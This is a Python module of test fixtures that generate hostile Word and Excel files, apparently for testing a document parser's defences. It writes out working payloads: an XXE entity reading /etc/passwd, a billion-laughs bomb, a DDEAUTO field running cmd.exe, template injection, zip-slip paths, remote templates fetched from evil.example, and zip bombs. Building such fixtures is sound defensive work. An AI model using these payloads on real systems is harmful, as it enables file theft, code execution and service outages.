"""Hostile documents and workbooks, made at home. Each has a name that says what it does."""

import struct
import zipfile
from collections.abc import Callable
from io import BytesIO

from openpyxl import Workbook

from .synthesis.document import package, paragraph, run
from .synthesis.model import Words

MEGABYTE = 1 << 20


def docx(words: str = "姓名：____", **parts: str) -> bytes:
    return package(f"<w:body>{paragraph([Words(words)])}</w:body>", **parts)


def with_document(text: str) -> bytes:
    """A document whose main part is exactly this."""
    return changed(docx(), {"word/document.xml": text.encode()})


def changed(data: bytes, parts: dict[str, bytes], dropped: tuple[str, ...] = ()) -> bytes:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        known = {name: archive.read(name) for name in archive.namelist()}
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**known, **parts}.items():
            if name not in dropped:
                archive.writestr(name, content)
    return buffer.getvalue()


def document_part(data: bytes) -> str:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return archive.read("word/document.xml").decode()


def with_large_part(name: str, head: bytes, filling: bytes, tail: bytes) -> bytes:
    """A part of 200 MB, written piece by piece."""
    buffer = BytesIO(docx())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive, archive.open(name, "w") as part:
        part.write(head)
        for _piece in range(200):
            part.write(filling * MEGABYTE)
        part.write(tail)
    return buffer.getvalue()


def text_of_two_hundred_megabytes() -> bytes:
    return with_large_part("word/footnotes.xml", b"<w:t>", b"A", b"</w:t>")


def nothing_of_two_hundred_megabytes() -> bytes:
    return with_large_part("word/media/image1.png", b"", b"\0", b"")


def declared(entities: str, use: str) -> bytes:
    plain = document_part(docx())
    head, body = plain.split("?>", 1)
    return with_document(f"{head}?><!DOCTYPE r [{entities}]>{body.replace('姓名', use, 1)}")


def entity_that_reads_a_file() -> bytes:
    return declared('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")


def a_billion_laughs() -> bytes:
    more = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    return declared(f'<!ENTITY a0 "lol">{more}', "&a9;")


def one_entity_twenty_thousand_times() -> bytes:
    return declared(f'<!ENTITY q "{"x" * 50_000}">', "&q;" * 20_000)


def boxes_in_boxes() -> bytes:
    inner = "<w:sdt><w:sdtContent>" * 20_000 + "<w:p/>" + "</w:sdtContent></w:sdt>" * 20_000
    return package(f"<w:body>{inner}</w:body>")


def relation(kind: str, target: str, mode: str = "External") -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def template_from_elsewhere() -> bytes:
    return docx(**{"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/t.dotm")})


def picture_from_elsewhere() -> bytes:
    return docx(**{"word/_rels/document.xml.rels": relation("image", "http://evil.example/spy.png")})


def page_swallowed_whole() -> bytes:
    return docx(**{"word/_rels/document.xml.rels": relation("aFChunk", "chunk.xml", "Internal")})


def macros_renamed() -> bytes:
    return docx(**{"word/vbaProject.bin": "\0" * 600})


def macros_by_their_type() -> bytes:
    with zipfile.ZipFile(BytesIO(docx())) as archive:
        types = archive.read("[Content_Types].xml")
    main = b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return changed(docx(), {"[Content_Types].xml": types.replace(main, b"vnd.ms-word.document.macroEnabled.main+xml")})


def object_inside() -> bytes:
    return docx(**{"word/embeddings/oleObject1.bin": "\0" * 600})


def command_in_a_field() -> bytes:
    command = '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\cmd.exe "/k calc" </w:instrText></w:r>'
    return package(f"<w:body><w:p>{command}{run('x')}</w:p></w:body>")


def template_language() -> bytes:
    return docx('{{ "".__class__.__mro__[1].__subclasses__() }} 姓名：____')


def part_that_climbs_out() -> bytes:
    return docx(**{"../../../../evil.txt": "x"})


def sixty_thousand_parts() -> bytes:
    return docx(**{f"x/{number}": "" for number in range(60_000)})


def archive_that_lies() -> bytes:
    """A part that is larger than the archive says."""
    data = docx(**{"word/media/image1.png": "\0" * 5_000_000})
    return data.replace(struct.pack("<I", 5_000_000), struct.pack("<I", 5_000))


def document_in_two_bytes_a_character() -> bytes:
    return changed(docx(), {"word/document.xml": document_part(docx()).encode("utf-16")})


def xlsx() -> bytes:
    book = Workbook()
    book.create_sheet("表", 0).append(["姓名", "", "性别", ""])
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_cells(change: Callable[[str], str]) -> bytes:
    name = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(BytesIO(xlsx())) as archive:
        sheet = archive.read(name).decode()
    return changed(xlsx(), {name: change(sheet).encode()})


def cell_at_the_end_of_the_world() -> bytes:
    far = '<sheetData><row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row>'
    return with_cells(lambda sheet: sheet.replace("<sheetData>", far, 1))


def everything_merged() -> bytes:
    merged = '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return with_cells(lambda sheet: sheet.replace("</sheetData>", merged, 1))


def a_million_rows() -> bytes:
    rows = "".join(
        f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>{"A" * 31}</t></is></c></row>' for i in range(100, 400_000)
    )
    return with_cells(lambda sheet: sheet.replace("</sheetData>", f"{rows}</sheetData>", 1))


def workbook_that_reads_another() -> bytes:
    return changed(xlsx(), {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})
